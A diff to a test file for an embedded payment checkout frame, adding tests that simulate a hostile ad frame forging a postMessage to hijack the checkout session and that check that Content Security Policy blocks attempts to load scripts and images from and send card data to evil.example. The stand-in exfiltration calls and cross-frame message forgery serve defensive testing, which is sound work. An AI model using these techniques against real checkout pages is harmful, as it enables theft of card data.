@@ -3,13 +3,14 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
 import {
-  CARDS, booked, call, charges, choose, fillCard, fillShopper, hub, openLink, openTag, session, shop, shopper, submit, tagPage, until,
+  CARDS, booked, call, choose, fillCard, fillShopper, hub, openLink, openTag, session, shop, shopper, submit, tagPage,
+  until,
 } from "./harness.mjs";
 
 const inFrame = (page) => page.frameLocator("iframe").locator("[data-state]");
 const named = (origins) => call("PATCH", "/v1/settings", { checkoutOrigins: origins });
 const bare = (body) => `<!doctype html><html lang="pt"><meta charset="utf-8"><title>Loja</title><body><main><h1>Loja</h1>${body}</main></body></html>`;
-const FRAMED = ["frame-ancestors", "ERR_BLOCKED_BY_RESPONSE", "web-share"];
+const FRAMED = ["frame-ancestors", "ERR_BLOCKED_BY_RESPONSE"];
 
 test("a hostile page of a shop reads no card number, security code or key stroke", async (t) => {
   const { page } = await shopper(t);
@@ -123,6 +124,30 @@ test("messages of strangers change nothing: neither in the page nor in the form"
   assert.deepEqual(await booked(other), []);
 });
 
+test("the form takes its session from the page that embeds it, not from whoever is first", async (t) => {
+  const { page } = await shopper(t);
+  const [order, other] = [await session(), await session({ amount: 100 })];
+  const init = ({ id, publicKey }, locale) =>
+    JSON.stringify({ catraca: 1, type: "init", publicKey, clientId: hub.clientId, sessionId: id, locale });
+  const evil = await shop(t, { "/": bare(`<script>addEventListener("message", () => {
+    parent[0].postMessage(${init(other, "en")}, "*");
+    parent.postMessage("done", "*");
+  });</script>`) }, "127.0.0.1");
+  const html = bare(`<iframe title="Pagamento" src="${hub.url}/checkout/frame/${order.id}"></iframe>
+    <iframe title="Anúncio" src="${evil}/"></iframe><script>
+    const open = Promise.withResolvers();
+    addEventListener("load", () => open.promise.then(() => frames[1].postMessage("go", "*")));
+    addEventListener("message", ({ data }) => {
+      if (data?.type === "ready") open.resolve();
+      if (data === "done") frames[0].postMessage(${init(order, "es")}, "*");
+    });</script>`);
+  await page.goto(await shop(t, { "/": html }));
+  const checkout = page.frameLocator("iframe").first().locator("[data-state]");
+  await until(checkout, "choose");
+  assert.equal(await checkout.evaluate(() => document.documentElement.lang), "es");
+  assert.deepEqual([await booked(order), await booked(other)], [[], []]);
+});
+
 test("the page that embeds the form cannot open another session in it, once it is open", async (t) => {
   const { page } = await shopper(t);
   const [order, other] = [await session(), await session({ amount: 100 })];
@@ -211,5 +236,30 @@ test('sandbox="true" opens no form at a hub where real money moves', async (t) =
   assert.equal(await page.frameLocator("iframe").locator("input").count(), 0);
   await page.goto(`${address}/live`);
   await until(inFrame(page), "choose");
+  assert.deepEqual(await booked(order), []);
+});
+
+test("what does not belong to the hub's page is not loaded and not run", async (t) => {
+  const { page } = await shopper(t, { expects: ["Content Security Policy", "requires 'Trusted", "This document requires"] });
+  const order = await session();
+  await openLink(page, order);
+  const tries = await page.evaluate(async () => {
+    window.violated = new Set();
+    document.addEventListener("securitypolicyviolation", (event) => window.violated.add(event.effectiveDirective));
+    const image = Object.assign(new Image(), { src: "https://evil.example/card.gif" });
+    await new Promise((resolve) => image.addEventListener("error", resolve));
+    const script = document.createElement("script");
+    const named = (work) => Promise.resolve().then(work).then(() => "done", (error) => error.name);
+    return [
+      await named(() => (script.src = "https://evil.example/card.js")),
+      await named(() => (script.textContent = "window.ran = true")),
+      await named(() => (document.body.innerHTML = "<p onclick=alert(1)>")),
+      await named(() => fetch("https://evil.example/?card")),
+    ];
+  });
+  assert.deepEqual(tries, ["TypeError", "TypeError", "TypeError", "TypeError"]);
+  const all = ["connect-src", "img-src", "require-trusted-types-for"];
+  await page.waitForFunction((directives) => directives.every((each) => window.violated.has(each)), all);
+  assert.equal(await page.evaluate(() => window.ran), undefined);
   assert.deepEqual(await booked(order), []);
 });
